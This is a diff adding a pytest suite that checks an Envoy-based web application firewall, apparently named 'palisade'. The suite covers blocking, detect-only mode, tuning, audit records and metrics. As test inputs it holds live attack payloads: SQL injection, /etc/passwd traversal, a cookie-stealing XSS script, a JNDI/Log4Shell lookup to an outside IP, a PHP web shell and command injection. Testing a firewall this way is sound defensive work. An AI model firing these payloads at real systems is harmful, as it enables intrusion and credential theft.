@@ -1,0 +1,156 @@
+"""The WAF in real Envoy: each target type (path, query, headers, cookies, JSON, form, multipart,
+XML, raw text bodies), bodies held until the verdict (the upstream never sees a blocked request),
+403 problem+json with rule ids and never the payload, detect-only mode, tuning by exclusion and
+custom rules, audit records and metrics."""
+
+from __future__ import annotations
+
+import json
+
+import pytest
+import requests
+
+import harness
+from harness import Listener, chunked, raw_request, request_head
+
+WAF = {"policies": {"default": {"waf": {}}}, "audit": {"log_allowed": True}}
+DETECT = {"policies": {"default": {"waf": {"mode": "detect_only"}}}, "audit": {"log_allowed": True}}
+TUNED = {
+    "policies": {
+        "default": {
+            "waf": {
+                "exclusions": [{"target": "json:$.snippet"}],
+                "custom_rules": [
+                    {"id": 100001, "targets": ["args"], "operator": "contains", "pattern": "forbidden-word", "score": 5}
+                ],
+            }
+        }
+    }
+}
+
+
+@pytest.fixture(scope="module")
+def envoy(envoys):
+    return envoys.start(
+        [
+            Listener("waf", harness.free_port(), WAF),
+            Listener("detect", harness.free_port(), DETECT),
+            Listener("tuned", harness.free_port(), TUNED),
+        ],
+        name="waf",
+    )
+
+
+def assert_blocked(r, echo=None, request_id=None):
+    assert r.status_code == 403, r.text
+    assert r.headers["content-type"] == "application/problem+json"
+    body = r.json()
+    assert body["code"] == "waf_blocked"
+    assert body["rules"] and all(isinstance(i, int) for i in body["rules"])
+    if echo is not None and request_id is not None:
+        assert not echo.requests_with(request_id), "a blocked request reached the upstream"
+    return body
+
+
+def test_benign_requests_pass_and_reach_the_upstream(envoy, echo):
+    r = requests.get(envoy.url("waf", "/api/items?page=2&sort=name"), headers={"x-request-id": "ok-1"}, timeout=10)
+    assert r.status_code == 200
+    r = requests.post(envoy.url("waf", "/api/items"), json={"name": "Blue chair", "notes": "fits the desk"}, headers={"x-request-id": "ok-2"}, timeout=10)
+    assert r.status_code == 200
+    assert r.json()["body"] == json.dumps({"name": "Blue chair", "notes": "fits the desk"})
+    assert echo.requests_with("ok-2")
+
+
+def test_sql_injection_in_the_query_is_blocked_with_rule_ids_not_the_payload(envoy, echo):
+    payload = "1' UNION SELECT password FROM users--"
+    r = requests.get(envoy.url("waf", "/search"), params={"q": payload}, headers={"x-request-id": "sqli-1"}, timeout=10)
+    body = assert_blocked(r, echo, "sqli-1")
+    assert "UNION" not in r.text and "password" not in r.text
+    record = envoy.audit_for("sqli-1")
+    assert record["reason"] == "waf_blocked"
+    assert record["waf"]["score"] >= 5
+    sqli = [m for m in record["waf"]["matches"] if m["category"] == "sqli"]
+    assert sqli and {m["target"] for m in sqli} == {"args:q"}
+    assert "password" not in json.dumps(record)
+    assert sorted(body["rules"]) == sorted({m["rule"] for m in record["waf"]["matches"]})
+
+
+def test_path_traversal_in_the_path_is_blocked(envoy):
+    r = raw_request(envoy.address("waf"), request_head("GET", "/files/..%2f..%2f..%2fetc/passwd", []))
+    assert r.status == 403 and r.json()["code"] == "waf_blocked"
+
+
+def test_attacks_in_headers_and_cookies_are_blocked(envoy):
+    assert_blocked(requests.get(envoy.url("waf", "/"), headers={"user-agent": "sqlmap/1.7.2#stable"}, timeout=10))
+    # (Envoy itself drops a Referer that is not a valid URL, such as `javascript:...`.)
+    assert_blocked(requests.get(envoy.url("waf", "/"), headers={"x-return-note": "<img src=x onerror=alert(1)>"}, timeout=10))
+    assert_blocked(requests.get(envoy.url("waf", "/"), headers={"cookie": "theme=dark; prefs=${jndi:ldap://198.51.100.1/a}"}, timeout=10))
+
+
+def test_json_body_attack_is_held_and_never_reaches_the_upstream(envoy, echo):
+    r = requests.post(
+        envoy.url("waf", "/api/comments"),
+        json={"post": 7, "comment": {"text": "<script>document.location='http://x/'+document.cookie</script>"}},
+        headers={"x-request-id": "json-1"},
+        timeout=10,
+    )
+    assert_blocked(r, echo, "json-1")
+    targets = {m["target"] for m in envoy.audit_for("json-1")["waf"]["matches"]}
+    assert "json:$.comment.text" in targets
+
+
+def test_chunked_body_is_held_until_the_whole_body_is_inspected(envoy, echo):
+    body = json.dumps({"filler": "a" * 3000, "cmd": "; cat /etc/passwd"}).encode()
+    head = request_head("POST", "/api/run", [("content-type", "application/json"), ("transfer-encoding", "chunked"), ("x-request-id", "chunk-1")])
+    r = raw_request(envoy.address("waf"), head, chunked(body, 700))
+    assert r.status == 403 and r.json()["code"] == "waf_blocked"
+    assert not echo.requests_with("chunk-1")
+    ok = json.dumps({"filler": "a" * 3000}).encode()
+    head = request_head("POST", "/api/run", [("content-type", "application/json"), ("transfer-encoding", "chunked"), ("x-request-id", "chunk-2")])
+    r = raw_request(envoy.address("waf"), head, chunked(ok, 700))
+    assert r.status == 200
+    assert r.json()["body_bytes"] == len(ok)
+
+
+def test_form_multipart_and_xml_bodies_are_inspected(envoy):
+    assert_blocked(requests.post(envoy.url("waf", "/login"), data={"user": "admin' OR '1'='1' --", "pw": "x"}, timeout=10))
+    assert_blocked(
+        requests.post(envoy.url("waf", "/upload"), files={"file": ("../../../../etc/passwd", b"hello", "text/plain")}, timeout=10)
+    )
+    xml = b"<?xml version='1.0'?><order><note>&lt;script&gt;alert(1)&lt;/script&gt;</note><item onload=\"alert(1)\">x</item></order>"
+    assert_blocked(requests.post(envoy.url("waf", "/orders"), data=xml, headers={"content-type": "application/xml"}, timeout=10))
+    assert_blocked(requests.post(envoy.url("waf", "/notes"), data=b"<?php system($_GET['c']); ?>", headers={"content-type": "text/plain"}, timeout=10))
+
+
+def test_binary_bodies_are_not_parsed_as_text(envoy):
+    blob = bytes(range(256)) * 8 + b"<script>alert(1)</script>"
+    r = requests.post(envoy.url("waf", "/blob"), data=blob, headers={"content-type": "application/octet-stream"}, timeout=10)
+    assert r.status_code == 200
+
+
+def test_detect_only_mode_lets_attacks_through_and_records_them(envoy, echo):
+    before = envoy.counter("palisade.requests.denied")
+    r = requests.get(envoy.url("detect", "/search"), params={"q": "<script>alert(1)</script>"}, headers={"x-request-id": "det-1"}, timeout=10)
+    assert r.status_code == 200
+    assert echo.requests_with("det-1")
+    record = envoy.audit_for("det-1")
+    assert record["decision"] == "allow"
+    assert record["waf"]["over_threshold"] is True
+    assert record["waf"]["score"] >= 5
+    assert envoy.counter("palisade.requests.denied") == before
+
+
+def test_an_excluded_json_field_and_a_custom_rule_tune_the_waf(envoy):
+    snippet = {"snippet": "SELECT name FROM users WHERE id = 1 UNION SELECT 2 --"}
+    assert requests.post(envoy.url("tuned", "/kb"), json=snippet, timeout=10).status_code == 200
+    assert requests.post(envoy.url("waf", "/kb"), json=snippet, timeout=10).status_code == 403
+    r = requests.get(envoy.url("tuned", "/x"), params={"a": "this has a forbidden-word in it"}, timeout=10)
+    body = assert_blocked(r)
+    assert 100001 in body["rules"]
+
+
+def test_waf_denials_are_counted_in_metrics(envoy):
+    before = envoy.counter("palisade.denied.waf_blocked")
+    requests.get(envoy.url("waf", "/"), params={"q": "../../../../etc/shadow"}, timeout=10)
+    assert envoy.counter("palisade.denied.waf_blocked") == before + 1
+    assert "palisade_denied_waf_blocked" in envoy.prometheus()
